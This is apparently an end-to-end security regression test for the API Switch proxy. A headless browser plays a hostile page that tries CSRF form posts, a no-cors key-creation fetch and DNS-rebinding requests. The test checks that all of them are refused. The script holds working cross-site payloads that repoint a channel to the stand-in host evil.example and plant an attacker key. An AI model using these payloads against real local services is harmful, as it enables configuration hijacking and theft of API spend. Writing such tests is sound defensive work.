// Issue 9: a hostile page in a real Chromium tries to change API Switch's configuration and
// spend its keys. It is served from a second local origin (its own port), and it tries:
//   - an HTML form post to the server function that updates a channel (new base URL),
//   - a no-cors fetch to the server function that creates an access key,
//   - a fetch to /v1/chat/completions under a foreign Host name that resolves to 127.0.0.1
//     (what DNS rebinding does), and loading the UI itself under that name.
// It prints every answer the API Switch port gave as one JSON line; the Rust test asserts each
// was refused and that the configuration and the upstream were untouched.
//
// usage: node end2end/cross_origin.mjs API_PORT UPDATE_CHANNEL_PATH CREATE_KEY_PATH CHANNEL_ID
import http from 'node:http';
import { chromium } from 'playwright-core';

const [apiPort, updatePath, createKeyPath, channelId] = process.argv.slice(2);
if (!channelId) {
  console.error('usage: node end2end/cross_origin.mjs API_PORT UPDATE_PATH CREATE_KEY_PATH CHANNEL_ID');
  process.exit(2);
}
const api = `http://127.0.0.1:${apiPort}`;
const rebound = `http://rebind.test:${apiPort}`;

const attackPage = `<!doctype html><html><body>
<iframe name="sink"></iframe>
<form id="steal" method="POST" target="sink" action="${api}${updatePath}">
  <input name="id" value="${channelId}"><input name="name" value="stolen">
  <input name="base_url" value="http://evil.example"><input name="api_key" value="">
</form>
</body></html>`;

const site = http.createServer((req, res) => {
  res.writeHead(200, { 'content-type': 'text/html' });
  res.end(attackPage);
});
await new Promise((resolve) => site.listen(0, '127.0.0.1', resolve));
const attacker = `http://127.0.0.1:${site.address().port}`;

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
  args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
    '--disable-background-networking', '--disable-component-update', '--disable-sync',
    // The rebinding attacker's name resolves to this machine, as after a DNS rebind.
    '--host-resolver-rules=MAP rebind.test 127.0.0.1'],
});
const answers = [];
try {
  const page = await browser.newPage();
  page.on('response', (r) => {
    const url = new URL(r.url());
    if (url.port === String(apiPort)) answers.push({ url: r.url(), status: r.status() });
  });
  await page.goto(attacker, { waitUntil: 'load' });

  // 1. A plain HTML form post into an iframe (no script needed on the attacker's side).
  const posted = page.waitForEvent('response', (r) => r.url().includes(updatePath), { timeout: 10000 });
  await page.evaluate(() => document.getElementById('steal').submit());
  await posted;

  // 2. fetch from script: the browser sends it (no-cors), the page just cannot read the answer.
  await page.evaluate(async ({ api, createKeyPath }) => {
    await fetch(`${api}${createKeyPath}`, {
      method: 'POST', mode: 'no-cors', credentials: 'include',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: 'name=attacker&key=ak-attacker-0123456789',
    }).catch(() => {});
  }, { api, createKeyPath });

  // 3. The proxy under a rebound name: the request reaches the server with Host rebind.test.
  await page.evaluate(async ({ rebound }) => {
    await fetch(`${rebound}/v1/chat/completions`, {
      method: 'POST', mode: 'no-cors',
      headers: { 'content-type': 'text/plain' },
      body: JSON.stringify({ model: 'auto', messages: [{ role: 'user', content: 'spend' }] }),
    }).catch(() => {});
  }, { rebound });

  // 4. After a rebind the attacker's page itself is loaded from that name and port.
  const rebind = await browser.newPage();
  rebind.on('response', (r) => answers.push({ url: r.url(), status: r.status() }));
  await rebind.goto(`${rebound}/channels`, { waitUntil: 'load' });
  await rebind.evaluate(async ({ updatePath, channelId }) => {
    await fetch(updatePath, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: `id=${channelId}&name=stolen&base_url=http%3A%2F%2Fevil.example&api_key=`,
    }).catch(() => {});
  }, { updatePath, channelId });
  await page.waitForTimeout(300);
  console.log(`answers ${JSON.stringify(answers)}`);
} catch (error) {
  console.error(String(error?.stack ?? error));
  process.exitCode = 1;
} finally {
  await browser.close();
  site.close();
}
